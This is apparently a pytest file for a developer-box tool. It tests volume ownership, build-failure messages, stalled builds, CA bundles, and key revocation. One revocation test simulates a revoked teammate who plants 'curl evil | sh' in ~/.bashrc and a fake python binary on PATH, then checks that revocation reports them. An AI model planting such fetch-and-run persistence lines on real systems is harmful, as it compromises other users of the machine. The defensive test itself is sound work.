"""Issue 23, items 4, 5, 6 and 9 on the real test bed: every named volume is the box user's,
revocation lists the start-up files changed in a shared home, a failing build says which step
failed and how, a build that stalls on an unreachable mirror ends (or streams instead), and a
team's CA reaches the build."""
from __future__ import annotations

import itertools
import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

import testbed as tb
from conftest import SUFFIX
from devbox.config import load_spec
from devbox.image import ImageSpec, build_locally, content_tag


def set_config(laptop, extra: str = "", base: str = tb.BASE_IMAGE) -> None:
    (laptop.work / "devbox.toml").write_text(f'[defaults]\nplaybook = "cpu"\nbase_image = "{base}"\n{extra}')


def box_ssh(laptop, host: str, *command: str):
    return laptop.ssh(f"devbox-{host}", *command)


# ---------------------------------------------------------------- 4: named volumes are the user's


def test_every_named_volume_is_the_box_users_whatever_its_path(laptop):
    """The README's own example: /datasets is not in the image, so Docker made it root's."""
    set_config(laptop, 'volumes = ["workspace:/workspace", "datasets:/datasets", "scratch:/mnt/scratch/deep"]\n')
    reports, _ = laptop.devbox.json("up", laptop.host1)
    assert reports[0]["error"] == "", reports[0]
    statuses = {c["name"]: c["status"] for c in reports[0]["checks"]}
    assert statuses["mount /datasets writable"] == statuses["mount /mnt/scratch/deep writable"] == "ok", statuses
    done = box_ssh(laptop, laptop.host1, "touch /datasets/a /mnt/scratch/deep/b && stat -c %U /datasets /mnt/scratch/deep && ls -A ~")
    assert done.returncode == 0, done.stderr
    assert done.stdout.split()[:2] == ["dev", "dev"]
    assert ".bashrc" in done.stdout, "the home volume still gets the image's dotfiles"


def test_a_root_owned_empty_volume_left_by_an_older_devbox_is_given_to_the_user(laptop):
    set_config(laptop, 'volumes = ["datasets:/datasets"]\n')
    volume = f"devbox-{laptop.host1}-datasets"
    subprocess.run(["docker", "volume", "create", "--label", f"devbox.host={laptop.host1}", volume], check=True, capture_output=True)
    owner = subprocess.run(["docker", "run", "--rm", "--mount", f"type=volume,source={volume},target=/datasets", "--entrypoint", "stat",
                            tb.BASE_IMAGE, "-c", "%u", "/datasets"], capture_output=True, text=True).stdout.strip()
    assert owner == "0"
    reports, _ = laptop.devbox.json("up", laptop.host1)
    assert reports[0]["error"] == "", reports[0]
    assert box_ssh(laptop, laptop.host1, "touch /datasets/x").returncode == 0


# ---------------------------------------------------------------- 6: refused before any build


@pytest.mark.parametrize("name", ["root", "sshd", "nobody"])
def test_a_login_user_the_build_cannot_make_is_refused_in_one_line(tmp_path, name):
    """Was: `user = "root"` passed and the build died with "exited 9" (useradd: name in use)."""
    (tmp_path / "devbox.toml").write_text(f'[defaults]\nuser = "{name}"\n')
    done = subprocess.run([sys.executable, "-m", "devbox.cli", "up", "some-host", "--dry-run"], cwd=tmp_path,
                          capture_output=True, text=True, env={**os.environ, "HOME": str(tmp_path)})
    assert done.returncode == 2 and done.stderr.count("\n") == 1, done.stderr
    assert f"bad value for 'user': '{name}'" in done.stderr and "not root" in done.stderr


# ---------------------------------------------------------------- 6: a failed build says where and why


@pytest.mark.parametrize("apt, says", [   # this run's own names: leftovers of other runs cannot match
    (f"no-such-package{SUFFIX}", f"E: Unable to locate package no-such-package{SUFFIX}"),
    (f"tmux=9.9{SUFFIX}", f"E: Version '9.9{SUFFIX}' for 'tmux' was not found"),
])
def test_a_failing_apt_step_names_the_step_and_apts_own_words(laptop, apt, says):
    """Was: "exited 100: DEPRECATED: The legacy builder is deprecated… (see the message above)", nothing above."""
    set_config(laptop, f'delivery = "build"\napt = ["{apt}"]\n')
    reports, done = laptop.devbox.json("up", laptop.host1, expect=1)
    error = reports[0]["error"]
    assert "the image build failed at step" in error and "(apt-get install of openssh-server, tmux, the kit and `apt`)" in error
    assert "(exit 100)" in error and says in error and "apt-cache policy" in error, error
    assert "DEPRECATED" not in error and "\n" not in error
    assert f"DEVBOX_APT={apt}" not in build_containers_env(), "--force-rm: no half-built container stays"


def build_containers_env(engine: list[str] = ["docker"]) -> str:
    """The environment of every stopped container (a build's RUN step carries its build args)."""
    ids = subprocess.run([*engine, "ps", "-aq", "--filter", "status=exited"], capture_output=True, text=True).stdout.split()
    return subprocess.run([*engine, "inspect", "-f", "{{range .Config.Env}}{{.}} {{end}}", *ids], capture_output=True, text=True).stdout if ids else ""


# ---------------------------------------------------------------- 9: a build stuck on its mirror ends


class Tarpit:
    """A proxy that accepts connections and never answers (a firewall or proxy that drops
    the traffic), on an address of the test's own engine bridge."""

    def __init__(self, address: str):
        self.server = socket.create_server((address, 0))
        self.url = f"http://{address}:{self.server.getsockname()[1]}"
        self.held: list[socket.socket] = []
        threading.Thread(target=self._hold, daemon=True).start()

    def _hold(self) -> None:
        while True:
            try:
                self.held.append(self.server.accept()[0])
            except OSError:
                return

    def close(self) -> None:
        self.server.close()
        for connection in self.held:
            connection.close()


STALL_HOSTS = itertools.count(1)


@pytest.fixture
def stalling_host(engine_laptop, testbed):
    """A host with its own engine (it has the base) whose Docker client sends builds through a
    proxy that never answers, as a host behind a dead proxy or with no route to its mirror."""
    laptop, engine = engine_laptop, engine_laptop.engine
    address = subprocess.run(["ip", "-4", "-o", "addr", "show", "dev", engine.bridge], capture_output=True, text=True).stdout.split()[3].split("/")[0]
    tarpit = Tarpit(address)
    name = f"gpu-stall{next(STALL_HOSTS)}{SUFFIX}"
    config = testbed.workdir / f"{name}-docker-config"
    config.mkdir(mode=0o755, parents=True)
    (config / "config.json").write_text(json.dumps({"proxies": {"default": {"httpProxy": tarpit.url, "httpsProxy": tarpit.url}}}))
    (config / "config.json").chmod(0o644)
    host = tb.start_fake_host(name, 41, testbed.workdir, testbed.workdir / "authorized_keys",
                              extra=f"SetEnv DOCKER_HOST={engine.docker_host} DOCKER_CONFIG={config}\n")
    known = laptop.home / ".ssh" / "known_hosts"
    known.write_text(known.read_text() + host.host_key_line() + "\n")
    laptop.ssh_config.write_text(laptop.ssh_config.read_text() + host.config_block(laptop.identity, known))
    laptop.stall_host = name
    yield laptop
    host.stop()
    tarpit.close()
    ids = engine.docker("ps", "-aq", "--filter", f"label=devbox.host={name}").stdout.split()
    if ids:
        engine.docker("rm", "-f", *ids)
    volumes = engine.docker("volume", "ls", "-q", "--filter", f"label=devbox.host={name}").stdout.split()
    if volumes:
        engine.docker("volume", "rm", "-f", *volumes)
    networks = engine.docker("network", "ls", "-q", "--filter", f"label=devbox.host={name}").stdout.split()
    if networks:
        engine.docker("network", "rm", *networks)


STALL_REFRESH = f"stall{SUFFIX}"   # a tag of this run's own: no engine has it built


def test_a_build_stuck_on_an_unreachable_mirror_ends_in_one_line_and_tags_nothing(stalling_host):
    """Was: `up` sat in apt-get with no output and no end (10 minutes and more)."""
    laptop = stalling_host
    set_config(laptop, f'delivery = "build"\nrefresh = "{STALL_REFRESH}"\nbuild_stall = 5\n')
    began = time.monotonic()
    reports, done = laptop.devbox.json("up", laptop.stall_host, expect=3)
    took = time.monotonic() - began
    error = reports[0]["error"]
    assert "made no progress for 5 s" in error and "apt-get install" in error and "could not reach deb.debian.org" in error, error
    assert 'delivery = "stream"' in error and "build_stall" in error and "\n" not in error
    assert took < 120, f"{took:.0f} s"
    tag = content_tag(load_spec(laptop.stall_host, laptop.work / "devbox.toml").image)
    assert laptop.engine.docker("image", "inspect", tag).returncode != 0, "nothing half-built is tagged"
    for _ in range(50):  # the engine cancels the stopped build and removes its container
        if f"DEVBOX_REFRESH={STALL_REFRESH}" not in build_containers_env(["docker", "-H", laptop.engine.docker_host]):
            break
        time.sleep(0.2)
    else:
        raise AssertionError("the stalled build's container is still on the host")


@pytest.fixture(scope="session")
def stall_image(testbed):
    """This machine has the image the stalling host would build (`devbox build` made it)."""
    return build_locally(ImageSpec(tb.BASE_IMAGE, refresh=STALL_REFRESH))


def test_a_stuck_build_falls_back_to_streaming_when_this_machine_has_the_image(stalling_host, stall_image):
    laptop = stalling_host
    set_config(laptop, f'refresh = "{STALL_REFRESH}"\nbuild_stall = 5\n')
    done = laptop.devbox("up", laptop.stall_host)
    assert done.returncode == 0, done.stderr
    assert "made no progress for 5 s" in done.stderr and "sending the image from this machine instead" in done.stderr
    assert laptop.engine.docker("image", "inspect", stall_image.tag).returncode == 0
    assert laptop.ssh(f"devbox-{laptop.stall_host}", "whoami").stdout.strip() == "dev"


@pytest.fixture
def machine_ca(tmp_path) -> Path:
    """This machine's CAs in one PEM file: the TLS-intercepting proxy that reaches PyPI is among them."""
    certs = sorted(Path("/usr/local/share/ca-certificates").glob("*.crt"))
    if not certs:
        pytest.skip("this machine has no CA of its own in /usr/local/share/ca-certificates")
    bundle = tmp_path / "team-ca.pem"
    bundle.write_text("".join(cert.read_text() for cert in certs))
    return bundle


PIP_STEP = 'delivery = "build"\napt = ["python3-pip"]\npip = ["six"]\n'


def test_pip_behind_a_tls_intercepting_proxy_fails_naming_the_cause_and_the_ca_bundle_fix(laptop, machine_ca):
    set_config(laptop, PIP_STEP)
    reports, _ = laptop.devbox.json("up", laptop.host1, expect=None)
    error = reports[0]["error"]
    if not error:   # a machine whose own CAs are there but whose way to PyPI intercepts nothing
        pytest.skip("pip reached PyPI without this machine's CA: no TLS interception here")
    assert reports[0]["exit_code"] == 1
    assert "(pip install of `pip`)" in error and "a TLS certificate check failed" in error and "set ca_bundle" in error, error


def test_a_team_ca_bundle_lets_pip_in_the_build_through_the_proxy_and_the_box_trusts_it(laptop, machine_ca):
    set_config(laptop, PIP_STEP + f'ca_bundle = "{machine_ca}"\n')
    reports, _ = laptop.devbox.json("up", laptop.host1)
    assert reports[0]["error"] == "", reports[0]
    done = box_ssh(laptop, laptop.host1, "python -c 'import six; print(six.__name__)' && ls /etc/ssl/certs/devbox-team-ca.pem "
                   "&& cat /etc/xdg/pip/pip.conf")
    assert done.returncode == 0 and done.stdout.startswith("six\n") and "cert = /etc/ssl/certs/ca-certificates.crt" in done.stdout, done


def test_a_ca_bundle_that_is_not_certificates_is_refused_before_anything_runs(tmp_path):
    key = tmp_path / "id"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    for path, says in ((key, "holds a private key"), (tmp_path / "none.pem", "cannot read"), (key.with_suffix(".pub"), "no PEM certificate")):
        (tmp_path / "devbox.toml").write_text(f'[defaults]\nca_bundle = "{path}"\n')
        done = subprocess.run([sys.executable, "-m", "devbox.cli", "up", "some-host", "--dry-run"], cwd=tmp_path,
                              capture_output=True, text=True, env={**os.environ, "HOME": str(tmp_path)})
        assert done.returncode == 2 and says in done.stderr and done.stderr.count("\n") == 1, done.stderr


# ---------------------------------------------------------------- 5: what a revoked teammate left in a shared home


def test_revoking_a_key_on_a_shared_box_lists_the_start_up_files_changed_since_it_was_added(laptop, tmp_path):
    """Was: mallory's ~/.bashrc lines ran at the next teammate's login and nothing said so."""
    mallory = tb.keygen(tmp_path / "mallory")
    laptop.devbox("keys", "add", "me", f"{laptop.identity}.pub")
    laptop.devbox("keys", "add", "mallory", f"{mallory}.pub")
    reports, _ = laptop.devbox.json("up", laptop.host1)
    assert reports[0]["error"] == "", reports[0]
    plant = ("echo 'curl evil | sh' >> ~/.bashrc && echo x >> ~/.profile && touch -d 2001-01-01 ~/.profile "
             "&& mkdir -p ~/.local/bin && printf '#!/bin/sh\\n' > ~/.local/bin/python && echo 'set -g mouse on' > ~/.tmux.conf")
    done = laptop.ssh(f"devbox-{laptop.host1}", plant, extra=["-o", f"IdentityFile={mallory}"])
    assert done.returncode == 0, done.stderr
    done = laptop.devbox("keys", "revoke", "mallory", laptop.host1)
    assert done.returncode == 0, done.stderr
    assert "removed mallory" in done.stdout and "revoked mallory" in done.stdout
    warning = done.stderr
    for planted in ("~/.bashrc", "~/.profile", "~/.local/bin/python", "~/.tmux.conf"):
        assert planted in warning, warning   # ~/.profile too: its mtime says 2001, its ctime does not lie
    assert "~/.bash_logout" not in warning, "the image's own copy is not listed"
    assert "README: trust model" in warning
    installed = subprocess.run(["docker", "exec", f"devbox-{laptop.host1}", "cat", "/etc/devbox/keys/authorized_keys"],
                               capture_output=True, text=True).stdout
    assert Path(f"{mallory}.pub").read_text().split()[1] not in installed and " me\n" in installed
    again, _ = laptop.devbox.json("keys", "sync", laptop.host1)
    assert again[0]["removed"] == [] and again[0]["planted"] == [], "listed once, when the key leaves"
